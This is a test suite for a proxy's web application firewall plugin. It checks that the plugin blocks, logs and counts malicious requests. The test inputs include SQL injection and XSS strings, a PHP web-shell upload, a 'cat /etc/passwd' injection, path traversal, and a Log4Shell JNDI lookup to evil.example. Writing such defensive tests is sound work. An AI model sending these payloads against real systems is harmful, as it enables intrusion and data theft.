import t from 'tap'
import type { Test } from 'tap'
import { Readable } from 'node:stream'
import { request } from 'undici'
import { Registry, type Counter } from 'prom-client'
import { noSubrequests, startUpstream, type Upstream } from '../../test/helpers/upstream.ts'
import { simpleDoc, testConfig, startTestProxy } from '../../test/helpers/proxy.ts'
import { startProxy, type RunningProxy } from '../../src/proxy.ts'
import { createLogger } from '../../src/log.ts'
import { createMetrics } from '../../src/metrics.ts'
import type { PluginContext, RequestContext } from '../../src/plugin.ts'
import { schema } from './schema.ts'
import plugin from './plugin.ts'

interface Setup {
  up: Upstream
  proxy: RunningProxy
  url: string
  /** Log records written so far, parsed. */
  logs: () => Array<Record<string, unknown>>
}

/** A real proxy (with a log we can read) before a real echo upstream, the WAF on every route. */
async function setup (t: Test, config: Record<string, unknown>, extraRoutes: unknown[] = []): Promise<Setup> {
  const up = await startUpstream()
  t.teardown(up.close)
  const lines: string[] = []
  const log = createLogger({ level: 'debug', write: (line) => { lines.push(line) } })
  const doc = simpleDoc(up.url, { plugins: [{ name: 'waf', config }] })
  ;(doc.routes as unknown[]).unshift(...extraRoutes)
  const proxy = await startProxy({ config: testConfig(doc), source: 'test', log, metrics: createMetrics({ defaultMetrics: false }) })
  t.teardown(() => proxy.shutdown(1000))
  return { up, proxy, url: `http://127.0.0.1:${proxy.port}`, logs: () => lines.map((l) => JSON.parse(l) as Record<string, unknown>) }
}

interface Problem { status: number, code: string, title: string, detail: string, requestId: string, incidentId: string, rules: number[] }

async function send (url: string, options: Parameters<typeof request>[1] = {}): Promise<{ status: number, headers: Record<string, unknown>, text: string }> {
  const res = await request(url, options)
  return { status: res.statusCode, headers: res.headers, text: await res.body.text() }
}

async function matches (proxy: RunningProxy): Promise<Array<{ labels: Record<string, unknown>, value: number }>> {
  const metric = proxy.metrics.registry.getSingleMetric('outrider_waf_matches_total') as Counter | undefined
  return metric === undefined ? [] : (await metric.get()).values.map((v) => ({ labels: v.labels, value: v.value }))
}

t.test('blocks an attack in the query with a 403 problem; the upstream never sees it', async (t) => {
  const { up, url, logs, proxy } = await setup(t, { mode: 'block' })
  const res = await send(`${url}/items?id=${encodeURIComponent('1\' or \'1\'=\'1')}`, { headers: { 'x-request-id': 'req-1' } })
  t.equal(res.status, 403)
  t.equal(res.headers['content-type'], 'application/problem+json')
  const body = JSON.parse(res.text) as Problem
  t.equal(body.code, 'FORBIDDEN')
  t.equal(body.status, 403)
  t.equal(body.requestId, 'req-1')
  t.match(body.incidentId, /^[0-9a-f]{16}$/)
  t.ok(body.rules.includes(1602), `rules ${body.rules.join(',')}`)
  t.equal(up.seen.length, 0, 'never forwarded')

  const line = logs().find((l) => l.msg === 'waf: request blocked')
  t.ok(line, 'logged')
  t.equal(line?.incidentId, body.incidentId, 'the log names the incident the client was given')
  t.equal(line?.requestId, 'req-1')
  t.equal(line?.level, 'warn')
  t.equal(line?.route, 'all')
  t.same(line?.rules, body.rules)
  const first = (line?.matches as Array<{ id: number, target: string, excerpt: string }>)[0]
  t.equal(first?.target, 'query:id')
  t.match(first?.excerpt, /or '1'='1/)

  t.same(await matches(proxy), [{ labels: { route: 'all', family: 'sqli', action: 'block' }, value: 1 }], 'counted by family once per request (one rule matched before the verdict)')
})

t.test('lets benign requests through untouched', async (t) => {
  const { up, url, logs } = await setup(t, {})
  const get = await send(`${url}/search?q=${encodeURIComponent('O\'Brien select a plan')}&page=2`, { headers: { 'user-agent': 'Mozilla/5.0', referer: 'https://shop.example.com/' } })
  t.equal(get.status, 200)
  const json = { name: 'O\'Brien', note: 'Please select a plan from the list; 1=1 in math text', tags: ['a', 'b'] }
  const post = await send(`${url}/profile`, { method: 'POST', body: JSON.stringify(json), headers: { 'content-type': 'application/json' } })
  t.equal(post.status, 200)
  t.equal(up.seen.length, 2)
  t.same(JSON.parse((JSON.parse(post.text) as { body: string }).body), json, 'the body reached the upstream complete')
  t.equal(logs().filter((l) => typeof l.msg === 'string' && l.msg.startsWith('waf')).length, 0, 'nothing to log')
})

t.test('inspects bodies: JSON, form, multipart, chunked', async (t) => {
  const { up, url } = await setup(t, {})
  const json = await send(`${url}/api`, { method: 'POST', body: JSON.stringify({ user: { bio: '<svg onload=alert(1)>' } }), headers: { 'content-type': 'application/json' } })
  t.equal(json.status, 403)
  t.ok((JSON.parse(json.text) as Problem).rules.includes(1502))
  const form = await send(`${url}/login`, { method: 'POST', body: 'user=admin%27--&pass=x', headers: { 'content-type': 'application/x-www-form-urlencoded' } })
  t.equal(form.status, 403)
  const b = 'XyZ'
  const upload = await send(`${url}/upload`, {
    method: 'POST',
    headers: { 'content-type': `multipart/form-data; boundary=${b}` },
    body: [`--${b}`, 'Content-Disposition: form-data; name="avatar"; filename="me.php"', '', '<?php system($_GET["c"]); ?>', `--${b}--`, ''].join('\r\n'),
  })
  t.equal(upload.status, 403)
  const chunks = Readable.from([Buffer.from('{"comment": "nice; '), Buffer.from('cat /etc/passwd"}')])
  const chunked = await send(`${url}/api`, { method: 'POST', body: chunks, headers: { 'content-type': 'application/json' } })
  t.equal(chunked.status, 403, 'a chunked body is read too')
  t.equal(up.seen.length, 0, 'none was forwarded')
})

t.test('detect mode logs and counts, and forwards', async (t) => {
  const { up, url, logs, proxy } = await setup(t, { mode: 'detect' })
  const res = await send(`${url}/x?q=${encodeURIComponent('<script>alert(1)</script>')}`, { method: 'POST', body: 'a=1%20union%20select%201,2', headers: { 'content-type': 'application/x-www-form-urlencoded' } })
  t.equal(res.status, 200)
  t.equal(up.seen.length, 1, 'forwarded')
  const line = logs().find((l) => l.msg === 'waf: request would be blocked (detect mode)')
  t.ok(line)
  t.same(line?.rules, [1501, 1509, 1601], 'every match is collected in detect mode, the body included')
  t.match(line?.incidentId, /^[0-9a-f]{16}$/)
  const counted = await matches(proxy)
  t.same(counted.map((c) => `${c.labels.family}/${c.labels.action}=${c.value}`).sort(), ['sqli/detect=1', 'xss/detect=2'])
})

t.test('matches below the threshold pass and are logged at info', async (t) => {
  const { up, url, logs, proxy } = await setup(t, {})
  const res = await send(`${url}/img?src=${encodeURIComponent('../images/logo.png')}`)
  t.equal(res.status, 200)
  t.equal(up.seen.length, 1)
  const line = logs().find((l) => l.msg === 'waf: anomalies below the threshold')
  t.equal(line?.level, 'info')
  t.same(line?.rules, [1207])
  t.same(await matches(proxy), [{ labels: { route: 'all', family: 'lfi', action: 'pass' }, value: 1 }])
})

t.test('reads headers, cookies and the raw path', async (t) => {
  const { up, url } = await setup(t, {})
  const ua = await send(`${url}/`, { headers: { 'user-agent': 'sqlmap/1.8#stable (https://sqlmap.org)' } })
  t.equal(ua.status, 403)
  t.same((JSON.parse(ua.text) as Problem).rules, [1101])
  const log4j = await send(`${url}/`, { headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } })
  t.equal(log4j.status, 403)
  const cookie = await send(`${url}/`, { headers: { cookie: 'theme=dark; pref=1%27%20or%201=1--' } })
  t.equal(cookie.status, 403)
  const path = await send(`${url}/static/etc/passwd`)
  t.equal(path.status, 403)
  const hidden = await send(`${url}/static/..%2f..%2fetc%2fpasswd`)
  t.equal(hidden.status, 400, 'a dot-segment behind an escaped slash is refused before any plugin runs')
  const env = await send(`${url}/.env`)
  t.equal(env.status, 403)
  t.equal(up.seen.length, 0)
  const ok = await send(`${url}/.well-known/security.txt`)
  t.equal(ok.status, 200)
})

t.test('exclusions let a known field through', async (t) => {
  const { up, url } = await setup(t, { exclusions: [{ target: 'body:html', families: ['xss'] }] })
  const html = await send(`${url}/cms`, { method: 'POST', body: JSON.stringify({ html: '<p onclick="track(1)">Hi</p>' }), headers: { 'content-type': 'application/json' } })
  t.equal(html.status, 200)
  const other = await send(`${url}/cms`, { method: 'POST', body: JSON.stringify({ title: '<p onclick="track(1)">Hi</p>' }), headers: { 'content-type': 'application/json' } })
  t.equal(other.status, 403)
  t.equal(up.seen.length, 1)
})

t.test('bodies over maxBodySize: forwarded uninspected, or blocked', async (t) => {
  const attack = `${'x'.repeat(2000)}<script>alert(1)</script>`
  const allow = await setup(t, { maxBodySize: 1024 })
  const passed = await send(`${allow.url}/big`, { method: 'POST', body: attack, headers: { 'content-type': 'text/plain' } })
  t.equal(passed.status, 200)
  t.equal((JSON.parse(passed.text) as { body: string }).body, attack, 'forwarded whole')
  const small = await send(`${allow.url}/small`, { method: 'POST', body: '<script>alert(1)</script>', headers: { 'content-type': 'text/plain' } })
  t.equal(small.status, 403, 'a body within the limit is inspected')

  const streamed = Readable.from([Buffer.from(attack.slice(0, 1000)), Buffer.from(attack.slice(1000))])
  const chunked = await send(`${allow.url}/big`, { method: 'POST', body: streamed, headers: { 'content-type': 'text/plain' } })
  t.equal(chunked.status, 200)
  t.equal((JSON.parse(chunked.text) as { body: string }).body, attack, 'a chunked body past the limit is forwarded whole too')

  const block = await setup(t, { maxBodySize: 1024, onOversizedBody: 'block' })
  const refused = await send(`${block.url}/big`, { method: 'POST', body: 'y'.repeat(2000), headers: { 'content-type': 'text/plain' } })
  t.equal(refused.status, 403)
  t.same((JSON.parse(refused.text) as Problem).rules, [1015])
  t.equal(block.up.seen.length, 0)
})

t.test('declares its metric once across routes and snapshots', async (t) => {
  const { url, proxy, up } = await setup(t, {}, [{ name: 'api', match: { pathPrefix: '/api' }, cluster: 'up', plugins: [{ name: 'waf', config: { paranoiaLevel: 2 } }] }])
  t.equal((await send(`${url}/api/x?q=%3Cscript%3E`)).status, 403)
  t.equal((await send(`${url}/web?q=%3Cscript%3E`)).status, 403)
  // A reload builds every plugin again: the counter must be reused, not re-registered.
  const doc = simpleDoc(up.url, { plugins: [{ name: 'waf', config: { mode: 'detect' } }] })
  await proxy.apply(testConfig(doc))
  t.equal((await send(`${url}/web?q=%3Cscript%3E`)).status, 200)
  // (The PL2 route also notes undici's missing User-Agent and the IP Host: other families.)
  const counted = (await matches(proxy)).filter((c) => c.labels.family === 'xss')
  t.same(counted.map((c) => `${c.labels.route}/${c.labels.action}=${c.value}`).sort(), ['all/block=1', 'all/detect=1', 'api/block=1'])
})

t.test('create() reuses a counter already in the registry', async (t) => {
  const registry = new Registry()
  const log = createLogger({ write: () => {} })
  const ctx: PluginContext = { routeName: 'r', metrics: registry, log, upstream: noSubrequests }
  await plugin.create(schema.parse({}), ctx)
  await plugin.create(schema.parse({}), ctx)
  t.ok(registry.getSingleMetric('outrider_waf_matches_total'))
})

t.test('without readBody on the context, only the head is inspected', async (t) => {
  const lines: string[] = []
  const hooks = await plugin.create(schema.parse({}), { routeName: 'r', metrics: new Registry(), log: createLogger({ write: (l) => { lines.push(l) } }), upstream: noSubrequests })
  const ctx = {
    req: { rawHeaders: ['Host', 'a', 'Content-Length', '5', 'Content-Type', 'text/plain'], headers: { 'content-length': '5', 'content-type': 'text/plain' } },
    requestId: 'r1', clientIp: '127.0.0.1', scheme: 'http', method: 'POST', path: '/', query: '', routeName: 'r',
    upstreamHeaders: {}, upstreamPath: '/', state: {}, identity: undefined, startTime: 0,
  } as unknown as RequestContext
  t.equal(hooks.onRequest?.(ctx), undefined)
  t.match(lines.join(''), /only heads are inspected/)
})

t.test('works through the shared test proxy helper as configured in YAML', async (t) => {
  const up = await startUpstream()
  t.teardown(up.close)
  const proxy = await startTestProxy(simpleDoc(up.url, { plugins: [{ name: 'waf', config: { paranoiaLevel: 2, maxBodySize: '32kb', exclusions: [{ target: 'query:q', ruleIds: [1501] }] } }] }), t)
  t.equal((await send(`${proxy.url}/?q=%3Cscript%3E`)).status, 200, 'excluded')
  t.equal((await send(`${proxy.url}/?r=%3Cscript%3E`)).status, 403)
})
